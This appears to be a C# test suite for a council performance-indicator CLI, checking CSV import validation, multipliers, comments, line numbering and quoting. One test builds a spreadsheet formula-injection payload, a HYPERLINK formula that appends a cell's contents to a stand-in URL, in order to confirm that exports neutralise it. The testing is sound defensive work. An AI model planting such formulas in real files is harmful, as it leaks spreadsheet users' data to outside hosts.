using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Steward.Data;
using Steward.Domain;
using Steward.Tests.Support;

namespace Steward.Tests.Indicators;

/// <summary>The cases of the issue "Files councils really have", through the CLI on a real database.</summary>
public class CouncilFileTests : IAsyncLifetime
{
    private TestDatabase _db = null!;
    private readonly TempFiles _files = new();
    private const string IndicatorsHeader = "code,name,polarity,unit,frequency,info_only,amber_tolerance";

    public async Task InitializeAsync()
    {
        _db = await TestDatabase.CreateAsync();
        (await StewardCli.RunAsync(_db, "org", "add", "DBC", "Dacorum Borough Council")).ExitCode.ShouldBe(0);
    }

    public async Task DisposeAsync()
    {
        await _db.DisposeAsync();
        _files.Dispose();
    }

    private async Task<StewardDb> OpenDbc()
    {
        var db = _db.Open();
        db.UseOrganisation((await db.Organisations.SingleAsync(o => o.Code == "DBC")).Id);
        return db;
    }

    private async Task<CliResult> Import(params string[] paths)
    {
        var r = await StewardCli.RunAsync(_db, ["import", "--org", "DBC", .. paths]);
        r.ExitCode.ShouldBe(0, r.Err);
        return r;
    }

    private async Task<string[]> Failing(params string[] paths)
    {
        var r = await StewardCli.RunAsync(_db, ["import", "--org", "DBC", .. paths]);
        r.ExitCode.ShouldBe(1, r.Out);
        r.ErrLines[^1].ShouldStartWith("Nothing was imported");
        return r.ErrLines[..^1];
    }

    [Fact]
    public async Task Issue_8_a_value_that_is_exactly_its_fraction_is_accepted()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader},decimals\nR0,Rate,higher,percent,monthly,false,,0\n");
        var r = _files.Write("r.csv", "code,period,value,numerator,denominator\nR0,2024-05,12.5,1,8\n");
        await Import(i, r);
        await using (var db = await OpenDbc())
            (await db.Results.SingleAsync()).Value.ShouldBe(12.5m);

        var wrong = _files.Write("wrong.csv", "code,period,value,numerator,denominator\nR0,2024-06,12.4,1,8\n");
        (await Failing(wrong)).ShouldBe([$"{wrong}:2: column value: 12.4 disagrees with 1 / 8 = 12.5"]);
    }

    // Stored fractions were worked out with the multiplier in force: changing it, or changing the unit to percent, would
    // silently change what they mean, so it is refused while the indicator has results entered as fractions.
    [Fact]
    public async Task A_multiplier_cannot_change_under_results_entered_as_fractions()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader},multiplier\nECON5,Business births per 10000 adults,higher,number,annual,false,,10000\n");
        await Import(i, _files.Write("r.csv", "code,period,value,numerator,denominator\nECON5,2019-03,16.5,250,151500\n"));
        var rate = _files.Write("rate.csv", $"{IndicatorsHeader},multiplier\nECON5,Business births per 1000 adults,higher,number,annual,false,,1000\n");
        (await Failing(rate)).ShouldBe([$"{rate}:2: column multiplier: ECON5 has 1 result entered as a numerator and denominator, worked out × 10000: " +
                                       "its multiplier cannot become 1000, which would change their values (create a new indicator for the new measure)"]);
        var percent = _files.Write("percent.csv", $"{IndicatorsHeader}\nECON5,Business births,higher,percent,annual,false,\n");
        (await Failing(percent)).Single().ShouldStartWith($"{percent}:2: column unit: ECON5 has 1 result entered as a numerator and denominator, worked out × 10000: its multiplier cannot become 100");
    }

    [Fact]
    public async Task Issue_9_a_rate_per_10000_imports_with_its_multiplier_and_exports_it()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader},decimals,multiplier\nECON5,Business births per 10000 adults,higher,number,annual,false,,1,10000\n");
        var r = _files.Write("r.csv", "code,period,value,numerator,denominator\nECON5,2019-03,16.5,250,151500\n");
        await Import(i, r);
        await using (var db = await OpenDbc())
        {
            (await db.Indicators.SingleAsync()).Multiplier.ShouldBe(10000);
            (await db.Results.SingleAsync()).Value.ShouldBe(250m / 151500m * 10000m);
        }
        var export = await StewardCli.RunAsync(_db, "export", "indicators", "--org", "DBC");
        export.OutLines[0].Split(',').ShouldContain("multiplier");
        var columns = export.OutLines[0].Split(',').ToList();
        export.OutLines[1].Split(',')[columns.IndexOf("multiplier")].ShouldBe("10000");
        // The export re-imports to the same thing: nothing changes.
        var again = _files.Write("again.csv", export.Out);
        (await Import(again)).Out.ShouldContain("indicators: 0 created, 0 updated");

        var bad = _files.Write("bad.csv", $"{IndicatorsHeader},multiplier\nP1,A percentage,higher,percent,monthly,false,,1000\nN1,A number,higher,number,monthly,false,,10\n");
        (await Failing(bad)).ShouldBe([
            $"{bad}:2: column multiplier: a percent indicator's multiplier is 100, not 1000",
            $"{bad}:3: column multiplier: '10' is not one of 1, 100, 1000, 10000, 100000",
        ]);
    }

    [Fact]
    public async Task Issue_10_a_comment_without_a_value_is_kept_with_its_target()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader}\nETS01,Fly-tipping cleared in 1 day,higher,percent,quarterly,false,\n");
        var r = _files.Write("r.csv", "code,period,value,target,comment\nETS01,2014-06,,40,Q1 figures yet to be confirmed\n");
        (await Import(i, r)).Out.ShouldContain("results: 1 created, 0 updated; targets: 1 created");
        await using (var db = await OpenDbc())
        {
            var result = await db.Results.SingleAsync();
            (result.Value, result.UpdaterComment).ShouldBe((null, "Q1 figures yet to be confirmed"));
            (await db.Targets.SingleAsync()).Value.ShouldBe(40m);
        }
        var export = await StewardCli.RunAsync(_db, "export", "results", "--org", "DBC");
        export.OutLines.ShouldBe(["code,period,value,numerator,denominator,target,comment", "ETS01,2014-06,,,,40,Q1 figures yet to be confirmed"]);
    }

    [Fact]
    public async Task Issue_10_an_empty_value_with_a_comment_clears_the_stored_result_audited_never_unchanged()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader}\nHS16,Homeless households in temporary accommodation,lower,number,quarterly,false,\n");
        var first = _files.Write("first.csv", "code,period,value,target,comment\nHS16,2014-06,21,18,\n");
        await Import(i, first);
        var withdrawn = _files.Write("withdrawn.csv", "code,period,value,target,comment\nHS16,2014-06,,18,Figure withdrawn: being re-validated\n");
        var r = await Import(withdrawn);
        r.Out.ShouldContain("results: 0 created, 1 updated");
        r.Out.ShouldContain("0 rows unchanged");
        await using var db = await OpenDbc();
        var result = await db.Results.SingleAsync();
        (result.Value, result.UpdaterComment).ShouldBe((null, "Figure withdrawn: being re-validated"));
        var entry = await db.AuditLog.SingleAsync(a => a.Action == "update" && a.EntityType == "Result");
        var changes = JsonDocument.Parse(entry.Changes!).RootElement;
        changes.GetProperty("Value")[0].GetDecimal().ShouldBe(21m);
        changes.GetProperty("Value")[1].ValueKind.ShouldBe(JsonValueKind.Null);
        changes.GetProperty("UpdaterComment")[1].GetString().ShouldBe("Figure withdrawn: being re-validated");
    }

    [Fact]
    public async Task Issue_11_exports_neutralise_formulas_keep_numbers_numeric_and_round_trip()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader},lead_officer\nINJ1,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"Click\"\")\",lower,number,monthly,false,,-Alex Owner\n");
        var r = _files.Write("r.csv", "code,period,value,comment\nINJ1,2024-05,-2.1,=1+2\nINJ1,2024-06,3,@SUM(A1)\nINJ1,2024-07,4,'=already quoted\n");
        await Import(i, r);
        var indicators = await StewardCli.RunAsync(_db, "export", "indicators", "--org", "DBC");
        indicators.OutLines[1].ShouldStartWith("INJ1,\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"Click\"\")\",lower,");
        indicators.OutLines[1].ShouldContain(",'-Alex Owner,");
        var results = await StewardCli.RunAsync(_db, "export", "results", "--org", "DBC");
        results.OutLines[1..].ShouldBe(["INJ1,2024-05,-2.1,,,,'=1+2", "INJ1,2024-06,3,,,,'@SUM(A1)", "INJ1,2024-07,4,,,,'=already quoted"]);

        // Export → import gives back what was there: nothing changes, and the text has no apostrophe added.
        var ei = _files.Write("ei.csv", indicators.Out);
        var er = _files.Write("er.csv", results.Out);
        (await Import(ei, er)).Out.ShouldContain("indicators: 0 created, 0 updated; results: 0 created, 0 updated");
        await using var db = await OpenDbc();
        var indicator = await db.Indicators.Include(x => x.LeadOfficer).SingleAsync();
        indicator.Name.ShouldBe("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")");
        indicator.LeadOfficer!.Name.ShouldBe("-Alex Owner");
        (await db.Results.OrderBy(x => x.Period).Select(x => x.UpdaterComment).ToListAsync()).ShouldBe(["=1+2", "@SUM(A1)", "=already quoted"]); // a neutraliser typed by hand is read as one
    }

    [Fact]
    public async Task Issue_14_every_kind_takes_what_spreadsheets_leave_behind()
    {
        // Capitalised words, a blank-headed empty column, an all-empty row, blank lines before the header, CRLF.
        var i = _files.WriteBytes("i.csv", System.Text.Encoding.UTF8.GetBytes(
            "\r\n\r\nCode,Name,Polarity,Unit,Frequency,Info_Only,Amber_Tolerance,,Cumulative\r\n" +
            "HR05,Sickness per FTE,LOWER,Days,Quarterly,FALSE,,,True\r\n" +
            ",,,,,,,,\r\n"));
        var r = _files.WriteBytes("r.csv", System.Text.Encoding.UTF8.GetBytes("code,period,value,\r\nHR05,2017-09,0.91,\r\n,,,\r\n"));
        await Import(i, r);
        await using var db = await OpenDbc();
        var hr05 = await db.Indicators.SingleAsync();
        (hr05.Polarity, hr05.Unit, hr05.Frequency, hr05.InfoOnly, hr05.Cumulative).ShouldBe((Polarity.LowerIsBetter, Unit.Days, Frequency.Quarterly, false, true));
        (await db.Results.SingleAsync()).Value.ShouldBe(0.91m);
    }

    [Fact]
    public async Task Issue_14_text_under_a_column_without_a_name_is_an_error_naming_the_line()
    {
        var r = _files.Write("r.csv", "\ncode,period,value,\nHR05,2017-09,0.91,\nHR05,2017-12,0.95,stray note\n");
        (await Failing(r)).ShouldBe([
            $"{r}:3: column code: unknown indicator code HR05",
            $"{r}:4: column 4: the column has no name in the header, so its cells must be empty: name the column or delete it",
        ]);
    }

    [Fact]
    public async Task Issue_16_blank_lines_before_a_header_are_not_an_empty_file_and_lines_keep_their_numbers()
    {
        var i = _files.Write("i.csv", $"\n\n{IndicatorsHeader}\nHR05,Sickness per FTE,lower,days,quarterly,maybe,\n");
        (await Failing(i)).ShouldBe([$"{i}:4: column info_only: 'maybe' is not true or false"]);
        var blank = _files.Write("blank.csv", "\n\n\n");
        (await Failing(blank)).ShouldBe([$"{blank}:1: column (header): the file is empty: the first line must name the columns"]);
    }

    [Fact]
    public async Task Line_numbers_count_line_breaks_inside_quoted_fields()
    {
        var i = _files.Write("i.csv", $"{IndicatorsHeader},description\nHR05,Sickness,lower,days,quarterly,false,,\"two\nlines\"\nHR06,Sickness,lower,days,quarterly,maybe,,\n");
        (await Failing(i)).ShouldBe([$"{i}:4: column info_only: 'maybe' is not true or false"]);
        var quote = _files.Write("q.csv", $"{IndicatorsHeader},description\nHR05,Sickness,lower,days,quarterly,false,,\"two\nlines\"x\n");
        (await Failing(quote)).ShouldBe([$"{quote}:3: column (all): text follows a closing quote: put the whole field in quotes and double any quote inside it"]);
        var unquoted = _files.Write("u.csv", $"{IndicatorsHeader}\nHR05,Sick\"ness,lower,days,quarterly,false,\n");
        (await Failing(unquoted)).ShouldBe([$"{unquoted}:2: column (all): a quote inside an unquoted field: put the whole field in quotes and double the quote"]);
    }
}
